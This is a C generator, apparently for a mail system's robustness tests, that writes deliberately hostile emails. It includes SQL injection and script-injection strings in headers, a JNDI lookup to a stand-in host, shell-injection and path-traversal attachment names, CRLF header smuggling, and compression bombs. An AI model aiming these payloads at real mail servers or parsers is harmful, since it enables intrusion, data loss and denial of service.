/*
 * gen_hostile.c — write hostile mail for the robustness tests (issue 5).
 *
 *   build/tools/gen_hostile OUTDIR [CASE...]
 *
 * Writes one OUTDIR/CASE.eml per case (all of them without CASE arguments)
 * and prints the names.  Every message is addressed to the security address
 * so that the whole path (analyze, file) sees it.  The content is
 * deterministic (fixed seeds), so a failure reproduces.
 *
 * Cases: deep nesting (2,000 multiparts, 300 forwarded messages), a 1 MiB
 * header line, a flood of headers, 5,000 parts, a 50 MiB attachment, NUL
 * bytes, broken boundaries and encodings, truncated base64, CR LF hidden in
 * RFC 2047 words (Subject, From, filenames), path tricks and control
 * characters in attachment names, zip, tar.gz and .gz bombs (built in memory with
 * libarchive's writer), SQL and HTML in every header, 8-bit garbage in
 * charsets, a huge HTML body, a 10 MiB line, a 1 MiB line of blanks, an
 * empty file, no header at all.
 */
#include <stdio.h>
#include <string.h>
#include <archive.h>
#include <archive_entry.h>
#include <glib.h>
#include <glib/gstdio.h>

#define TO "To: security@superrad.company\n"

typedef void (*CaseFunc)(FILE *f);

static void
head(FILE *f, const char *subject, const char *content_type)
{
	fprintf(f, "From: Hostile Tester <hostile@example.org>\n" TO
		"Subject: %s\nMessage-ID: <%s@hostile.example>\n"
		"Date: Mon, 16 Nov 2026 10:00:00 +0000\nMIME-Version: 1.0\n", subject, subject);
	if (content_type)
		fprintf(f, "Content-Type: %s\n", content_type);
	fputc('\n', f);
}

static void
base64_out(FILE *f, const void *data, gsize len)
{
	g_autofree char *b = g_base64_encode(data, len);
	gsize n = strlen(b);

	for (gsize i = 0; i < n; i += 76)
		fprintf(f, "%.*s\n", (int) MIN(76, n - i), b + i);
}

/* ---- the cases ------------------------------------------------------------ */

static void
deep_nesting(FILE *f)
{
	head(f, "deep-nesting", "multipart/mixed; boundary=\"d0\"");
	for (int i = 1; i < 2000; i++)
		fprintf(f, "--d%d\nContent-Type: multipart/mixed; boundary=\"d%d\"\n\n", i - 1, i);
	fprintf(f, "--d1999\nContent-Type: text/plain\n\nthe innermost text\n");
	for (int i = 1999; i >= 0; i--)
		fprintf(f, "--d%d--\n", i);
}

static void
deep_forwards(FILE *f)
{
	head(f, "deep-forwards", "message/rfc822");
	for (int i = 0; i < 300; i++)
		fprintf(f, "From: level%d@example.org\nSubject: level %d\n"
			"Content-Type: message/rfc822\n\n", i, i);
	fprintf(f, "From: bottom@example.org\nSubject: bottom\n\nbottom text\n");
}

static void
huge_header_line(FILE *f)
{
	fprintf(f, "From: hostile@example.org\n" TO "X-Huge: ");
	for (int i = 0; i < (1 << 20); i++)
		fputc('A' + i % 26, f);
	fprintf(f, "\nSubject: =?UTF-8?B?");
	for (int i = 0; i < (1 << 18); i++)
		fputs("QUJD", f);   /* one 1 MiB encoded word */
	fprintf(f, "?=\nMessage-ID: <huge-header-line@hostile.example>\n\nbody after a 1 MiB header line\n");
}

static void
header_flood(FILE *f)
{
	fprintf(f, "From: hostile@example.org\n" TO "Subject: header-flood\n");
	for (int i = 0; i < 50000; i++)
		fprintf(f, "X-Flood-%d: =?UTF-8?Q?value_%d?=\n", i, i);
	fprintf(f, "\nbody\n");
}

static void
encoded_word_storm(FILE *f)
{
	fprintf(f, "From: hostile@example.org\n" TO "Subject: ");
	for (int i = 0; i < 100000; i++)
		fputs("=?utf-8?b?YQ==?= =?x?q?=?= =?", f);
	fprintf(f, "\n\nbody\n");
}

static void
many_parts(FILE *f)
{
	head(f, "many-parts", "multipart/mixed; boundary=\"p\"");
	for (int i = 0; i < 5000; i++)
		fprintf(f, "--p\nContent-Type: %s; name=\"part%04d.%s\"\n\npart %d\n",
			i % 2 ? "text/plain" : "application/octet-stream", i, i % 2 ? "txt" : "bin", i);
	fprintf(f, "--p--\n");
}

static void
big_attachment(FILE *f)
{
	g_autoptr(GRand) rand = g_rand_new_with_seed(5);
	guint32 buf[3 * 1024];   /* 12 KiB: a multiple of 3 and of 57 bytes lines */
	gint state = 0, save = 0;
	char out[2 * sizeof buf];

	head(f, "big-attachment", "multipart/mixed; boundary=\"big\"");
	fprintf(f, "--big\nContent-Type: text/plain\n\nA 50 MiB attachment follows.\n--big\n"
		"Content-Type: application/octet-stream; name=\"core.dump\"\n"
		"Content-Disposition: attachment; filename=\"core.dump\"\n"
		"Content-Transfer-Encoding: base64\n\n");
	for (gsize done = 0; done < (50u << 20); done += sizeof buf) {
		gsize len = MIN(sizeof buf, (50u << 20) - done);
		for (gsize i = 0; i < G_N_ELEMENTS(buf); i++)
			buf[i] = g_rand_int(rand);
		gsize n = g_base64_encode_step((const guchar *) buf, len, TRUE, out, &state, &save);
		fwrite(out, 1, n, f);
	}
	gsize n = g_base64_encode_close(TRUE, out, &state, &save);
	fwrite(out, 1, n, f);
	fprintf(f, "\n--big--\n");
}

static void
nul_bytes(FILE *f)
{
	static const char msg[] =
		"From: nul\0byte@example.org\n" TO "Subject: nul\0bytes\0in subject\n"
		"Message-ID: <nul-bytes@hostile.example>\nMIME-Version: 1.0\n"
		"Content-Type: multipart/mixed; boundary=\"n\0ul\"\n\n"
		"--n\0ul\nContent-Type: text/plain\n\nbody\0with\0nuls\n"
		"--n\0ul\nContent-Type: application/octet-stream; name=\"a\0b.bin\"\n\n\0\0\0\n"
		"--n\0ul--\n\0\0\0";

	fwrite(msg, 1, sizeof msg - 1, f);
}

static void
broken_boundaries(FILE *f)
{
	head(f, "broken-boundaries", "multipart/mixed; boundary=\"outer\"");
	fprintf(f, "--outer\nContent-Type: multipart/alternative\n\nno boundary parameter\n"
		"--outer\nContent-Type: multipart/mixed; boundary=\"outer\"\n\n"
		"--outer\nContent-Type: text/plain\n\nsame boundary as the parent\n"
		"--outer\nContent-Type: multipart/related; boundary=\"");
	for (int i = 0; i < 7000; i++)
		fputc('x', f);
	fprintf(f, "\"\n\n--");
	for (int i = 0; i < 7000; i++)
		fputc('x', f);
	fprintf(f, "\nContent-Type: text/plain\n\nlong boundary, never closed\n"
		"--outer\nContent-Type: multipart/mixed; boundary=\"\"\n\n--\n\nempty boundary\n"
		"--outer-\nnot quite a boundary\n--outer--extra\n--outer--\n--outer--\n");
}

static void
broken_encodings(FILE *f)
{
	head(f, "broken-encodings", "multipart/mixed; boundary=\"e\"");
	fprintf(f, "--e\nContent-Type: text/plain; charset=utf-8\n"
		"Content-Transfer-Encoding: base64\n\n!!!not*base64@@@\n====\nQUJD\n"
		"--e\nContent-Type: text/plain; charset=utf-8\n"
		"Content-Transfer-Encoding: quoted-printable\n\nbad =ZZ escape =\n=4 =\r\nsoft=\n"
		"--e\nContent-Type: text/plain\nContent-Transfer-Encoding: x-unknown-encoding\n\nraw\n"
		"--e\nContent-Type: application/octet-stream; name=\"u.bin\"\n"
		"Content-Transfer-Encoding: x-uuencode\n\nbegin 644 u.bin\n#86)C\n`\n"
		"--e\nContent-Type: application/octet-stream; name=\"y.bin\"\n"
		"Content-Transfer-Encoding: base64\n\nQUJD=QUJD==QUJD===\n"
		"--e\nContent-Type: text/plain\nContent-Transfer-Encoding: base64\n"
		"Content-Transfer-Encoding: quoted-printable\n\nconflicting encodings\n--e--\n");
}

static void
truncated_base64(FILE *f)
{
	g_autoptr(GRand) rand = g_rand_new_with_seed(7);
	guint32 buf[4096];

	head(f, "truncated-base64", "multipart/mixed; boundary=\"t\"");
	fprintf(f, "--t\nContent-Type: text/plain\n\nattachment cut short\n--t\n"
		"Content-Type: application/zip; name=\"poc.zip\"\n"
		"Content-Disposition: attachment; filename=\"poc.zip\"\n"
		"Content-Transfer-Encoding: base64\n\nUEsDBBQAAAAIA");
	for (gsize i = 0; i < G_N_ELEMENTS(buf); i++)
		buf[i] = g_rand_int(rand);
	g_autofree char *b = g_base64_encode((const guchar *) buf, sizeof buf);
	fwrite(b, 1, strlen(b) / 2 + 3, f);   /* no line breaks, no end, no boundary */
}

static char *
bword(const char *text)
{
	g_autofree char *b = g_base64_encode((const guchar *) text, strlen(text));
	return g_strdup_printf("=?UTF-8?B?%s?=", b);
}

static void
crlf_encoded_words(FILE *f)
{
	g_autofree char *subj = bword("Report\r\nBcc: everyone@example.net\r\n\r\n<b>injected body</b>");
	g_autofree char *from = bword("Evil\r\nX-Injected: yes");
	g_autofree char *fname = bword("poc\r\nContent-Type: text/html\r\n\r\n.sh");

	fprintf(f, "From: %s <evil@example.org>\n" TO "Subject: %s =?UTF-8?Q?more=0D=0ATo:_x@example.net?=\n"
		"Message-ID: <crlf-encoded-words@hostile.example>\nMIME-Version: 1.0\n"
		"Content-Type: multipart/mixed; boundary=\"c\"\n\n"
		"--c\nContent-Type: text/plain\n\nbody\n"
		"--c\nContent-Type: application/x-sh; name=\"%s\"\n"
		"Content-Disposition: attachment; filename=\"%s\"\n\necho hi\n"
		"--c\nContent-Type: text/plain\nContent-Disposition: attachment;"
		" filename*=UTF-8''evil%%0D%%0ABcc%%3A%%20x%%40example.net.txt\n\nx\n--c--\n",
		from, subj, fname, fname);
}

static void
path_names(FILE *f)
{
	static const char *const names[] = {
		"../../etc/passwd", "/etc/shadow", "..\\\\..\\\\Windows\\\\system32\\\\evil.dll",
		"C:\\\\boot.ini", "~/.ssh/authorized_keys", ".bashrc", "name\twith\ttabs.txt",
		"bell\a\b\x1b[31mred.txt", "nul%00byte.txt", "-rf --no-preserve-root",
		"$(reboot).sh", "`id`.sh", "a|b;c&d>e<f.txt", "\xff\xfe invalid utf8.txt",
	};

	head(f, "path-names", "multipart/mixed; boundary=\"n\"");
	fprintf(f, "--n\nContent-Type: text/plain\n\nnames\n");
	for (gsize i = 0; i < G_N_ELEMENTS(names); i++)
		fprintf(f, "--n\nContent-Type: application/octet-stream; name=\"%s\"\n"
			"Content-Disposition: attachment; filename=\"%s\"\n\nx\n", names[i], names[i]);
	fprintf(f, "--n\nContent-Type: application/octet-stream\n"
		"Content-Disposition: attachment; filename*=UTF-8''..%%2F..%%2Fetc%%2Fpasswd%%00.txt\n\nx\n");
	fprintf(f, "--n\nContent-Type: application/octet-stream\n"
		"Content-Disposition: attachment; filename=\"");
	for (int i = 0; i < 10000; i++)
		fputs("../", f);
	fprintf(f, "long\"\n\nx\n--n--\n");
}

static la_ssize_t
write_cb(struct archive *a, void *data, const void *buf, size_t len)
{
	g_byte_array_append(data, buf, len);
	return len;
}

/* A FORMAT archive (with FILTER) of N members of SIZE bytes: zeros, or
 * LINE over and over when LINE is not NULL. */
static GByteArray *
bomb(const char *format, const char *filter, int n, gint64 size, const char *line)
{
	static char block[65536];   /* one block of the member's bytes */
	gsize line_len = line ? strlen(line) : 0;
	GByteArray *out = g_byte_array_new();
	struct archive *a = archive_write_new();

	archive_write_set_format_by_name(a, format);
	if (filter)
		archive_write_add_filter_by_name(a, filter);
	archive_write_set_options(a, "compression-level=1");   /* fast to write */
	archive_write_set_bytes_in_last_block(a, 1);
	archive_write_open2(a, out, NULL, write_cb, NULL, NULL);
	for (gsize i = 0; i < sizeof block; i++)
		block[i] = line_len ? line[i % line_len] : '\0';
	for (int i = 0; i < n; i++) {
		struct archive_entry *e = archive_entry_new();
		g_autofree char *name = g_strdup_printf("zeros-%02d.bin", i);
		archive_entry_set_pathname(e, name);
		archive_entry_set_size(e, size);
		archive_entry_set_filetype(e, AE_IFREG);
		archive_entry_set_perm(e, 0644);
		archive_write_header(a, e);
		for (gint64 left = size; left > 0; left -= sizeof block)
			archive_write_data(a, block, MIN((gint64) sizeof block, left));
		archive_entry_free(e);
	}
	archive_write_close(a);
	archive_write_free(a);
	return out;
}

static void
zip_bomb(FILE *f)
{
	g_autoptr(GByteArray) zip = bomb("zip", NULL, 16, 64 << 20, NULL);      /* 1 GiB inflated */
	g_autoptr(GByteArray) tgz = bomb("ustar", "gzip", 2, 256 << 20, NULL);  /* 512 MiB inflated */
	/* one gzip'd log of 512 MiB (not zeros: a gzip of zeros reads as an
	 * empty tar) */
	g_autoptr(GByteArray) gz = bomb("raw", "gzip", 1, 512 << 20, "2029-03-20 step 7 ok\n");

	head(f, "zip-bomb", "multipart/mixed; boundary=\"z\"");
	fprintf(f, "--z\nContent-Type: text/plain\n\nPoC attached (archives).\n"
		"--z\nContent-Type: application/zip; name=\"poc.zip\"\n"
		"Content-Disposition: attachment; filename=\"poc.zip\"\n"
		"Content-Transfer-Encoding: base64\n\n");
	base64_out(f, zip->data, zip->len);
	fprintf(f, "--z\nContent-Type: application/gzip; name=\"poc.tar.gz\"\n"
		"Content-Disposition: attachment; filename=\"poc.tar.gz\"\n"
		"Content-Transfer-Encoding: base64\n\n");
	base64_out(f, tgz->data, tgz->len);
	fprintf(f, "--z\nContent-Type: application/gzip; name=\"run.log.gz\"\n"
		"Content-Disposition: attachment; filename=\"run.log.gz\"\n"
		"Content-Transfer-Encoding: base64\n\n");
	base64_out(f, gz->data, gz->len);
	fprintf(f, "--z--\n");
}

static void
sql_html_headers(FILE *f)
{
	static const char *const evil[] = {
		"'; DROP TABLE reports; --", "\" OR 1=1 --", "<script>alert(document.cookie)</script>",
		"<img src=x onerror=alert(1)>", "Robert'); DELETE FROM messages WHERE ('1'='1",
		"%s%s%s%n", "{{7*7}} ${jndi:ldap://x.example/a}",
	};

	fprintf(f, "From: \"%s\" <evil'--@example.org>\n" TO, evil[0]);
	fprintf(f, "Subject: %s %s\n", evil[2], evil[1]);
	fprintf(f, "Message-ID: <%s@hostile.example>\n", "');DELETE FROM reports;--");
	fprintf(f, "In-Reply-To: <%s>\nReferences: <a'b@x> <%s>\n", evil[4], evil[3]);
	fprintf(f, "Reply-To: \"%s\" <r@example.org>\nDate: %s\n", evil[3], evil[5]);
	for (gsize i = 0; i < G_N_ELEMENTS(evil); i++)
		fprintf(f, "X-Evil-%zu: %s\n", i, evil[i]);
	fprintf(f, "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"%s\"\n\n", "s'q;l");
	fprintf(f, "--s'q;l\nContent-Type: text/html; charset=\"%s\"\n\n%s<p>%s</p>\n", evil[1], evil[2], evil[0]);
	fprintf(f, "--s'q;l\nContent-Type: application/octet-stream; name=\"%s.sh\"\n"
		"Content-Disposition: attachment; filename=\"x'; DROP TABLE attachments;--.sh\"\n\nx\n",
		evil[6]);
	fprintf(f, "--s'q;l--\n");
}

static void
garbage_charsets(FILE *f)
{
	g_autoptr(GRand) rand = g_rand_new_with_seed(11);
	static const char *const charsets[] = {
		"utf-8", "us-ascii", "x-garbage-charset", "iso-2022-jp", "utf-7", "utf-16",
		"\xff\xfe", "shift_jis", "gb2312", "koi8-r", "windows-1252", "",
	};

	fprintf(f, "From: \xc3\x28\xa0\xa1 <garbage@example.org>\n" TO
		"Subject: \xe2\x28\xa1 =?x-bogus?B?/////w==?= =?utf-8?B?wMGC?= =?iso-2022-jp?B?GyRC?=\n"
		"Message-ID: <garbage-charsets@hostile.example>\nMIME-Version: 1.0\n"
		"Authentication-Results: mx.superrad.company\xff\xfe; dmarc=fail\xc3\x28 header.from=x\n"
		"Auto-Submitted: \xe2\x28\xa1\nPrecedence: \xc3\nList-Id: \xff <list\xfe.example>\n"
		"X-Spam-Status: \xfd\xbc\xac\x9b\x84\x83 score=\xff\nReturn-Path: <\xff@\xfe>\n"
		"In-Reply-To: <\xc3\x28@x>\nReferences: <\xe2\x28\xa1@x> <ok@x>\n"
		"Content-Type: multipart/mixed; boundary=\"g\"\n\n");
	for (gsize i = 0; i < G_N_ELEMENTS(charsets); i++) {
		fprintf(f, "--g\nContent-Type: text/plain; charset=\"%s\"\n"
			"Content-Transfer-Encoding: 8bit\n\n", charsets[i]);
		for (int j = 0; j < 4096; j++) {
			char c = g_rand_int_range(rand, 1, 256);
			fputc(c == '-' ? '+' : c, f);
		}
		fputc('\n', f);
	}
	fprintf(f, "--g--\n");
}

static void
huge_html(FILE *f)
{
	head(f, "huge-html", "text/html; charset=utf-8");
	for (int i = 0; i < 30000; i++)
		fprintf(f, "<div><p><a href=\"https://example.org/%d\">link %d</a>&amp;&#%d;<br>", i, i, i);
	fprintf(f, "<script>");
	for (int i = 0; i < 100000; i++)
		fputs("<!-- <", f);
	fputc('\n', f);
}

static void
long_line(FILE *f)
{
	head(f, "long-line", "text/plain");
	for (int i = 0; i < (10 << 20); i++)
		fputc('a' + i % 26, f);
}

/* One line of 1 MiB of blanks: regexes with nested \s* backtrack on it. */
static void
blank_line(FILE *f)
{
	head(f, "blank-line", "text/plain");
	for (int i = 0; i < (1 << 20); i++)
		fputc(' ', f);
	fputc('\n', f);
}

/* 100,000 prompted commands, each opening a here-document never closed
 * ("$ cat <<B1"): looking for each one's delimiter line to the end of the
 * text took time squared (57 s for this mail before the bound). */
static void
open_heredocs(FILE *f)
{
	head(f, "open-heredocs", "text/plain");
	for (int i = 0; i < 100000; i++)
		fprintf(f, "$ cat <<B%d\n", i);
}

static void
empty(FILE *f)
{
}

static void
no_header(FILE *f)
{
	g_autoptr(GRand) rand = g_rand_new_with_seed(13);

	for (int i = 0; i < 65536; i++)
		fputc(g_rand_int_range(rand, 0, 256), f);
}

static const struct {
	const char *name;
	CaseFunc func;
} cases[] = {
	{ "deep-nesting", deep_nesting },
	{ "deep-forwards", deep_forwards },
	{ "huge-header-line", huge_header_line },
	{ "header-flood", header_flood },
	{ "encoded-word-storm", encoded_word_storm },
	{ "many-parts", many_parts },
	{ "big-attachment", big_attachment },
	{ "nul-bytes", nul_bytes },
	{ "broken-boundaries", broken_boundaries },
	{ "broken-encodings", broken_encodings },
	{ "truncated-base64", truncated_base64 },
	{ "crlf-encoded-words", crlf_encoded_words },
	{ "path-names", path_names },
	{ "zip-bomb", zip_bomb },
	{ "sql-html-headers", sql_html_headers },
	{ "garbage-charsets", garbage_charsets },
	{ "huge-html", huge_html },
	{ "long-line", long_line },
	{ "blank-line", blank_line },
	{ "open-heredocs", open_heredocs },
	{ "empty", empty },
	{ "no-header", no_header },
};

static gboolean
wanted(const char *name, int argc, char **argv)
{
	if (argc <= 2)
		return TRUE;
	for (int i = 2; i < argc; i++)
		if (strcmp(argv[i], name) == 0)
			return TRUE;
	return FALSE;
}

int
main(int argc, char **argv)
{
	if (argc < 2 || argv[1][0] == '-') {
		fprintf(stderr, "usage: gen_hostile OUTDIR [CASE...]\ncases:");
		for (gsize i = 0; i < G_N_ELEMENTS(cases); i++)
			fprintf(stderr, " %s", cases[i].name);
		fprintf(stderr, "\n");
		return 2;
	}
	if (g_mkdir_with_parents(argv[1], 0700) != 0) {
		perror(argv[1]);
		return 1;
	}
	for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
		if (!wanted(cases[i].name, argc, argv))
			continue;
		g_autofree char *base = g_strconcat(cases[i].name, ".eml", NULL);
		g_autofree char *path = g_build_filename(argv[1], base, NULL);
		FILE *f = fopen(path, "wb");
		if (f == NULL) {
			perror(path);
			return 1;
		}
		cases[i].func(f);
		if (fclose(f) != 0) {
			perror(path);
			return 1;
		}
		printf("%s\n", path);
	}
	return 0;
}
